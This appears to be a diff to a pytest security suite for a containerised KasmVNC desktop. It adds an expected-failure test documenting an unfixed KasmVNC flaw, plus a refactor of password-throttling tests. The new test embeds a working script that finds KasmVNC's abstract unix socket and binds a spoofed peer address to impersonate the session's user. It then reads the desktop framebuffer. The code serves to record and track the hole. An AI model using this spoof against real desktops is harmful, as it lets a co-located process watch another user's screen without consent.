@@ -179,6 +179,66 @@ def test_x11_has_no_network_listener(docker_client: DockerClient, desktop: Deskt
     assert ":1770 " not in tcp  # 6000 + 1 in hex
 
 
+# Known hole (KasmVNC, not fixable in Helios's scripts): Xvnc's websocket thread hands every
+# session to the RFB server over the abstract unix socket @KasmVNCSock<pid>, which any process in
+# the network namespace can reach; the server takes the user from the peer's (self-chosen)
+# abstract address. While a browser session is open its name is listed in /proc/net/unix.
+RFB_SPOOF = r"""
+import socket, struct
+table = [line.split()[-1] for line in open("/proc/net/unix")]
+server = [n for n in table if n.startswith("@KasmVNCSock")][0]
+session = [n for n in table if n.startswith("@helios-") and "_" in n][0]
+user = session[1:].split("@")[0]
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+s.bind(b"\0" + f"{user}@10.9.9.9_1.1".encode())
+s.connect(b"\0" + server[1:].encode())
+s.settimeout(5)
+s.sendall(s.recv(12))
+s.recv(s.recv(1)[0])
+s.sendall(b"\1")
+s.recv(4)
+s.sendall(b"\1")
+width, height = struct.unpack(">HH", s.recv(24)[:4])
+s.sendall(struct.pack(">BBHHHH", 3, 0, 0, 0, width, height))
+total = 0
+try:
+    while total < 100000:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        total += len(chunk)
+except socket.timeout:
+    pass
+print(total)
+"""
+
+
+@pytest.mark.xfail(
+    strict=True,
+    raises=AssertionError,
+    reason="KasmVNC's internal abstract socket @KasmVNCSock<pid> is reachable from the network "
+    "namespace (needs a KasmVNC patch: accept only peers with SO_PEERCRED pid == Xvnc's)",
+)
+def test_sidecar_cannot_spoof_an_open_session_on_xvncs_internal_socket(
+    docker_client: DockerClient, desktop: Desktop
+) -> None:
+    raw = socket.create_connection((desktop.host, desktop.port), timeout=10)
+    with raw as sock:  # an open, authenticated desktop session through nginx
+        key = base64.b64encode(os.urandom(16)).decode()
+        sock.sendall(
+            (
+                f"GET /websockify HTTP/1.1\r\nHost: {desktop.host}:{desktop.port}\r\n"
+                "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
+                f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Protocol: binary\r\n"
+                f"Authorization: {CREDS.header()}\r\n\r\n"
+            ).encode()
+        )
+        assert b" 101 " in integration.read_head(sock, 4096)
+        time.sleep(1)
+        received = sidecar(docker_client, desktop, f"python3 - <<'EOF'\n{RFB_SPOOF}\nEOF")
+    assert int(received.strip().splitlines()[-1]) < 1000, "the sidecar received the desktop"
+
+
 # --- HTTPS ------------------------------------------------------------------------------------
 
 
@@ -294,22 +354,30 @@ def page_load(url: str) -> collections.Counter[int]:
     return statuses
 
 
-def test_wrong_passwords_are_throttled_but_a_page_load_is_not(desktop: Desktop) -> None:
-    wrong = Credentials(USER, "not-the-password")
-    counts = burst(desktop.host, desktop.port, wrong, 300)
+WRONG = Credentials(USER, "not-the-password")
+
+
+def test_wrong_passwords_are_throttled(desktop: Desktop) -> None:
+    counts = burst(desktop.host, desktop.port, WRONG, 300)
     assert counts[401] <= 100, counts
     assert counts[401] + counts[429] == 300, counts
     assert get(f"https://{desktop.host}:{https_port(desktop)}/", CREDS) == 429  # same address
     time.sleep(3)
-    # Right after the pause: a full page load of the web client, nothing throttled.
-    loads = [page_load(f"{desktop.url}/") for _ in range(2)]
-    report = {"wrong_300": dict(counts), "page_loads": [dict(c) for c in loads]}
+    assert get(f"{desktop.url}/", CREDS) == 200
+    # Someone without the session cookie who keeps guessing is throttled again.
+    assert burst(desktop.host, desktop.port, WRONG, 40)[429] > 0
     REPORTS.mkdir(parents=True, exist_ok=True)
-    (REPORTS / f"throttle-{desktop.distro.name}.json").write_text(json.dumps(report) + "\n")
+    (REPORTS / f"throttle-{desktop.distro.name}.json").write_text(json.dumps(counts) + "\n")
+
+
+def test_page_load_right_after_throttling_is_not_throttled(desktop: Desktop) -> None:
+    assert burst(desktop.host, desktop.port, WRONG, 300)[429] > 0
+    time.sleep(3)
+    loads = [page_load(f"{desktop.url}/") for _ in range(2)]
+    REPORTS.mkdir(parents=True, exist_ok=True)
+    page_report = REPORTS / f"page-load-{desktop.distro.name}.json"
+    page_report.write_text(json.dumps([dict(c) for c in loads]) + "\n")
     for statuses in loads:
         assert statuses[429] == 0, statuses
         assert sum(statuses.values()) >= 10, statuses  # the web client really loaded
-    # Still throttled for someone without the session cookie who keeps guessing.
-    assert burst(desktop.host, desktop.port, wrong, 40)[429] > 0
     time.sleep(3)
-    assert get(f"{desktop.url}/", CREDS) == 200
